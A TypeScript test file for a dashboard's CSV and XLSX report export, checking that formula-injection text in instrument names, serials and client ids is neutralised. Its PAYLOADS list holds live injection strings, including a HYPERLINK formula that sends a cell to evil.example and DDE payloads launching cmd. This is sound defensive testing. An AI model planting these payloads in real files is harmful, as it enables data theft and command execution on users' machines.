import { inflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../../core/csv.js';
import type { App } from '../../../dashboard/app.js';
import { T, closeAll, dashboardOn, twoTenants, type Fixture } from '../fixture.js';
import { parseCsv } from '../../support/csv.js';

/**
 * Formula injection through the report files (issue 16, item 5), against the running dashboard.
 * An enterprise names its instrument, serial and site, and a check's client id, with text a
 * spreadsheet would run as a formula; the province downloads the report and opens it in Excel.
 *
 * Before the fix: the CSV carried `=HYPERLINK("http://evil.example/?x="&A1,"Xem")` (and `+`, `-`,
 * `@`, tab and CR starts) unchanged, a cell Excel runs on opening.
 */

const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Xem")', "+1+cmd|' /C calc'!A0", '-2+3', "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
const NEGATIVE_ERROR = -0.02;

let f: Fixture;
let app: App;

/** The XML of one part of an XLSX (a zip): enough of a zip reader for what write-excel-file writes. */
function xlsxPart(zip: Buffer, name: string): string {
  for (let i = 0; i < zip.length - 30; i++) {
    if (zip.readUInt32LE(i) !== 0x04034b50) continue;
    const method = zip.readUInt16LE(i + 8);
    let size = zip.readUInt32LE(i + 18);
    const nameLen = zip.readUInt16LE(i + 26);
    const extra = zip.readUInt16LE(i + 28);
    const entry = zip.subarray(i + 30, i + 30 + nameLen).toString();
    const start = i + 30 + nameLen + extra;
    if (entry !== name) continue;
    if (size === 0) size = zip.indexOf(Buffer.from([0x50, 0x4b, 0x07, 0x08]), start) - start; // data descriptor follows
    const data = zip.subarray(start, start + size);
    return (method === 8 ? inflateRawSync(data) : data).toString('utf8');
  }
  throw new Error(`${name} is not in the workbook`);
}

beforeAll(async () => {
  f = await twoTenants();
  PAYLOADS.forEach((p, i) => {
    f.registry.upsertInstrument({ id: `INJ-${i}`, org: T.a.ent, registration: 'registered', kind: 'scale', name: p, serial: p, site: p, gateway: T.a.gw });
  });
  const now = Date.now();
  f.registry.analytics.insertChecks([
    {
      instrument: T.a.inst,
      channel: 'mass',
      ts: now - 60_000,
      reference: T.a.ref,
      referenceValue: 20,
      referenceU: 0.001,
      indicated: 20 + NEGATIVE_ERROR,
      error: NEGATIVE_ERROR,
      source: 'api',
      by: 'ent-a-user',
      traceable: true,
      traceReason: null,
      receivedAt: now,
      clientId: '=1+2',
      fitness: null,
    },
  ]);
  ({ app } = await dashboardOn(f));
});
afterAll(() => closeAll(app, f));

const report = (name: string, format: 'csv' | 'xlsx', who: keyof Fixture['auth'] = 'enterprise') =>
  app.inject({ url: `/api/v1/reports/${name}?format=${format}&lang=en`, headers: f.auth[who] });

describe('report files cannot carry formulas', () => {
  it('the CSV inventory neutralises every text cell starting with =, +, -, @, tab or CR (a leading quote, the cell quoted)', async () => {
    const res = await report('inventory', 'csv');
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.body);
    const cells = rows.flat();
    for (const p of PAYLOADS) {
      expect(
        cells.filter((c) => c === p),
        JSON.stringify(p),
      ).toEqual([]); // never as it was written
      expect(cells.filter((c) => c === `'${p}`).length, JSON.stringify(p)).toBeGreaterThanOrEqual(3); // name, serial and site
      expect(res.body).toContain(`"'${p.replace(/"/g, '""')}"`);
    }
    // No cell of the file, whatever its column, starts as a formula.
    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && Number.isNaN(Number(c)));
    expect(risky).toEqual([]);
  });

  it('keeps a negative number a number: an error of -0.02 is written -0.02; a text "-2+3" is neutralised', async () => {
    const res = await report('results', 'csv');
    expect(res.statusCode).toBe(200);
    const [head, ...rows] = parseCsv(res.body);
    const iErr = head!.indexOf('Error');
    const iNum = head!.findIndex((h) => h.startsWith('Certificate number'));
    const check = rows.find((r) => r[iNum] === "'=1+2");
    expect(check, res.body).toBeDefined();
    expect(check![iErr]).toBe('-0.02');
    expect(res.body).toMatch(/,-0\.02,/); // unquoted: a spreadsheet reads it as the number
    expect(csvField(NEGATIVE_ERROR)).toBe('-0.02');
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
  });

  it('the XLSX keeps them as typed text cells (never a formula) and numbers as numbers', async () => {
    const res = await report('inventory', 'xlsx');
    expect(res.statusCode).toBe(200);
    const sheet = xlsxPart(res.rawPayload, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toMatch(/<f[ >]/); // no formula element anywhere
    const strings = xlsxPart(res.rawPayload, 'xl/sharedStrings.xml');
    const xml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    const found = PAYLOADS.filter((p) => strings.includes(xml(p)) || strings.includes(xml(p).replace(/"/g, '&quot;')));
    expect(found.length).toBeGreaterThanOrEqual(4); // the text as written, as a string cell (tab and CR may be encoded)
    const results = xlsxPart((await report('results', 'xlsx')).rawPayload, 'xl/worksheets/sheet1.xml');
    expect(results).toMatch(/<c [^>]*><v>-0\.02<\/v><\/c>/); // a number cell (no t="s")
    expect(results).not.toMatch(/<f[ >]/);
  });
});
